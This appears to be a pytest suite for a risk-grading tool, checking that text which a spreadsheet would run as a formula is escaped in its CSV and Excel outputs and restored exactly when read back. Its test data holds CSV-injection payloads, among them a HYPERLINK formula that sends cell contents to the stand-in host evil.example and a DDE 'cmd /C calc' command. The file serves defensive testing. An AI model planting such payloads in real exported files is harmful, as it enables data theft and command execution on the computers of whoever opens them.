"""Text that a spreadsheet would run (a name ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``, an id
``=1+2``) is written as text in every file a person opens in Excel: a string cell in xlsx results
and ledgers, a leading ``'`` in CSV results, visits and rejects (OWASP's advice) — unless asked not
to. Graded CSV read back gives the original text."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook

import riskgrade
from riskgrade.cli.main import main
from riskgrade.io.read_grades import read_grades
from riskgrade.io.write_values import escape_formula, escape_formulas, unescape_formulas

AS_OF = dt.date(2026, 11, 1)
PACK = """
pack: demo
version: "1"
title: {en: Demo}
owner: {en: Station}
fields:
  floors: {type: integer, min: 0}
levels:
  - {id: red, label: {en: Major}, color: red}
  - {id: blue, label: {en: Low}, color: blue}
score: {method: sum, bands: [{level: red, min: 10}, {level: blue, max: 10}]}
rules:
  - {id: tall, when: "floors > 10", points: 10}
controls:
  measures: {c: {text: 一}}
  by_level: {red: [c], blue: [c]}
  tiers: {t: {en: tier}}
  responsible: {red: t, blue: t}
inspection:
  interval_days: {red: 30, blue: 365}
"""
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "=1+2", "+1", "-2+3",
           "@SUM(A1:A9)", "\tx", "\rx", "'=already quoted"]


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "in.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["entity_id", "name", "station", "floors"])
        for i, text in enumerate(HOSTILE):
            w.writerow([text if i < 3 else f"ok{i}", text, text, 12 if i % 2 else 3])
        w.writerow(["=bad", "=HYPERLINK(1)", "s", "=1+1"])  # rejected: floors is a formula, not a number
    return path


def grade(source: Path, out: Path, *extra: str) -> None:
    rules = out.parent / "demo.yaml"
    rules.write_text(PACK, encoding="utf-8")
    assert main(["grade", str(source), "--rules", str(rules), "--as-of", "2026-11-01", "-o", str(out),
                 "--rejects", str(out.parent / "rejects.csv"), "--quiet", *extra]) == 1


def test_csv_results_and_rejects_quote_formula_text(source, tmp_path):
    out = tmp_path / "out.csv"
    grade(source, out)
    rows = list(csv.DictReader(open(out, encoding="utf-8-sig", newline="")))
    names = [r["name"] for r in rows]
    assert names == ["'" + t for t in HOSTILE]
    assert [r["entity_id"] for r in rows][:3] == ["'" + t for t in HOSTILE[:3]]
    rejects = list(csv.DictReader(open(tmp_path / "rejects.csv", encoding="utf-8-sig", newline="")))
    assert rejects[0]["entity_id"] == "'=bad" and "'=1+1'" in rejects[0]["reason"]
    assert not [v for row in rejects for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    back = read_grades(out)  # the quotes come off again, exactly
    assert back.column("name").to_pylist() == HOSTILE


def test_xlsx_results_store_formula_text_as_text(source, tmp_path):
    out = tmp_path / "out.xlsx"
    grade(source, out)
    sheet = load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = [(row[header.index("entity_id")], row[header.index("name")]) for row in sheet.iter_rows(min_row=2)]
    assert [n.value for _, n in cells] == [t.replace("\r", "\n") for t in HOSTILE]  # XML reads \r as \n
    assert all(c.data_type == "s" for pair in cells for c in pair)
    assert read_grades(out).column("entity_id").to_pylist()[:3] == HOSTILE[:3]


def test_the_ledger_stores_formula_text_as_text(source, tmp_path):
    graded = tmp_path / "g.parquet"
    grade(source, graded)
    rules = str(tmp_path / "demo.yaml")
    ledger = tmp_path / "ledger.xlsx"
    assert main(["plan", str(graded), "--rules", rules, "--from", "2026-11-02", "--to", "2026-11-30",
                 "-o", str(ledger)]) == 0
    book = load_workbook(ledger)
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in texts if c.value.startswith("=")]
    assert {c.value for c in risky} >= set(HOSTILE[:3])
    assert all(c.data_type == "s" for c in risky)
    visits = tmp_path / "visits.csv"
    assert main(["plan", str(graded), "--rules", rules, "--from", "2026-11-02", "--to", "2026-11-30",
                 "-o", str(visits)]) == 0
    rows = list(csv.DictReader(open(visits, encoding="utf-8-sig", newline="")))
    assert {r["name"] for r in rows} == {"'" + t for t in HOSTILE}


def test_escaping_can_be_turned_off(source, tmp_path):
    out = tmp_path / "raw.csv"
    grade(source, out, "--no-escape-formulas")
    assert [r["name"] for r in csv.DictReader(open(out, encoding="utf-8-sig", newline=""))] == HOSTILE
    xlsx = tmp_path / "raw.xlsx"
    grade(source, xlsx, "--no-escape-formulas")
    sheet = load_workbook(xlsx).worksheets[0]
    assert any(c.data_type == "f" for row in sheet.iter_rows(min_row=2) for c in row)


@given(st.lists(st.text(alphabet="'=+-@\t\rab 中", max_size=6) | st.none(), max_size=8))
def test_the_escape_is_undone_exactly(texts):
    col = pa.array(texts, pa.string())
    escaped = escape_formulas(col)
    assert escaped.to_pylist() == [None if t is None else escape_formula(t) for t in texts]
    assert unescape_formulas(escaped).to_pylist() == texts
    for t in escaped.to_pylist():
        assert t is None or t[:1] not in ("=", "+", "-", "@", "\t", "\r")
